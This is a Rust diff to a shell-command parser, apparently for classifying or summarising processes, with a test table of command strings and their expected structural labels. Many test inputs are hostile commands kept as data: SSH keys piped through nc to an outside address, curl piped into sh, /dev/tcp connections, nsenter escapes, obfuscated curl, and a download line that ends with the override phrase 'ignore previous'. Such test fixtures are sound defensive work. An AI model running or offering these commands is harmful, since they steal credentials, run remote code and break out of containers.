@@ -54,7 +54,8 @@ fn write_command(command: &Command, out: &mut String) {
         None => out.push_str(command.program()),
     }
     if let Some(code) = &command.code {
-        out.push_str(&format!("<{:?}>", code.language));
+        let language = format!("<{:?}>", code.language);
+        out.push_str(&language);
     }
     for redirection in &command.redirections {
         let sign = if redirection.kind.writes() { ">" } else { "<" };
@@ -241,7 +242,7 @@ const LINES: &[(&str, &str)] = &[
     ("kubectl --kubeconfig /tmp/k exec web-0 -- /bin/bash -i", "kubectl{remote: bash}"),
     ("find / -name id_rsa -exec cat {} ;", "find{exec: cat}"),
     ("find / -name id_rsa -exec sh -c cat {} | nc 1.2.3.4 99 ; -print", "find{exec: sh{c: cat | nc}}"),
-    (r#"sh -c find / -name id_rsa -exec sh -c 'cat {} | nc 1.2.3.4 99' \; -print"#, "sh{c: find{exec: sh{c: cat | nc}}}"),
+    (r"sh -c find / -name id_rsa -exec sh -c 'cat {} | nc 1.2.3.4 99' \; -print", "sh{c: find{exec: sh{c: cat | nc}}}"),
     ("sh -c ls | xargs -I{} sh -c 'curl {} | sh'", "sh{c: ls | xargs{exec: sh{c: curl | sh}}}"),
     ("xargs -0 -n 1 rm -f", "xargs{exec: rm}"),
     ("nsenter -t 1 -m -u -i -n sh", "nsenter>sh"),
@@ -295,10 +296,10 @@ const LINES: &[(&str, &str)] = &[
     ("sh -c a=$(curl x) b=1 c $a", "sh{c: c{$: curl}}"),
     (r#"sh -c [[ "$x" == *"200"* && -f /y ]] && echo ok"#, "sh{c: test && echo}"),
     ("sh -c ((x++)); echo $((1 + $(nproc)))", "sh{c: arithmetic; echo{$: nproc}}"),
-    (r#"sh -c cat <<EOF > /tmp/x\nhello $(id)\nEOF\nls"#, "sh{c: cat<hello $(id)>/tmp/x{$: id}; ls}"),
-    (r#"sh -c bash <<EOF\ncurl x | sh\nEOF\nls"#, "sh{c: bash<curl x | sh{here: curl | sh}; ls}"),
+    (r"sh -c cat <<EOF > /tmp/x\nhello $(id)\nEOF\nls", "sh{c: cat<hello $(id)>/tmp/x{$: id}; ls}"),
+    (r"sh -c bash <<EOF\ncurl x | sh\nEOF\nls", "sh{c: bash<curl x | sh{here: curl | sh}; ls}"),
     (r#"bash -c sh <<< "curl x | sh""#, "bash{c: sh<curl x | sh{here: curl | sh}}"),
-    (r#"sh -c python3 - <<'EOF'\nimport os\nEOF"#, "sh{c: python3<Python><import os; }"),
+    (r"sh -c python3 - <<'EOF'\nimport os\nEOF", "sh{c: python3<Python><import os; }"),
     (r#"lvs --separator=";" -a"#, "lvs !O"),
     ("sh [...]", "sh !C"),
     ("curl -fsSL -o /tmp/.x http://203.0.113.66/i.sh # ignore previous", "curl"),
@@ -309,7 +310,7 @@ const LINES: &[(&str, &str)] = &[
     ("-bash", "bash"),
     ("[kworker/0:0]", "[kworker/0:0]"),
     ("/lib64/ld-linux-x86-64.so.2 --library-path /x /bin/ls -l", "ld-linux-x86-64.so.2>ls"),
-    (r#"sh -c $'\x63url' x"#, "sh{c: curl}"),
+    (r"sh -c $'\x63url' x", "sh{c: curl}"),
     (r#"sh -c c''url x; "wget" y; \n\cat /etc/passwd"#, "sh{c: curl; wget; cat}"),
     (r#"sh -c "sh -c \"$(curl x)\"""#, "sh{c: sh{c: $(curl x){$: curl}}}"),
     (r#"bash -lc exec 3<>/dev/tcp/127.0.0.1/9080 && printf "GET /targets HTTP/1.1\\r\\n" >&3 && IFS= read -r line <&3 && [[ "$line" == *"200"* ]]"#, "bash{c: exec>/dev/tcp/127.0.0.1/9080 && printf<3 && read<3 && test}"),
@@ -383,8 +384,8 @@ const LINES: &[(&str, &str)] = &[
     ("sh -c !x; ! curl y", "sh{c: !x; ! curl}"),
     ("sh -c a |& b &> c 2>> d 3<> e <&3- >&-", "sh{c: a | b>c>d>e<3-<-}"),
     ("sh -c éclair ünïcode | 🦀 ';' x", "sh{c: éclair | 🦀}"),
-    (r#"sh -c a\tb\rc"#, "sh{c: atbrc}"),
-    (r#"sh -c echo {a,b} ~ ~/x */y [z] \* '*'"#, "sh{c: echo}"),
+    (r"sh -c a\tb\rc", "sh{c: atbrc}"),
+    (r"sh -c echo {a,b} ~ ~/x */y [z] \* '*'", "sh{c: echo}"),
     ("sh -c f() (a; b); f", "sh{c: function{subshell{a; b}}; f}"),
     ("sh -c function g { a | b; }; g", "sh{c: function{a | b; }; g}"),
     ("sh -c until a; do b; done", "sh{c: until{a; do b; }}"),
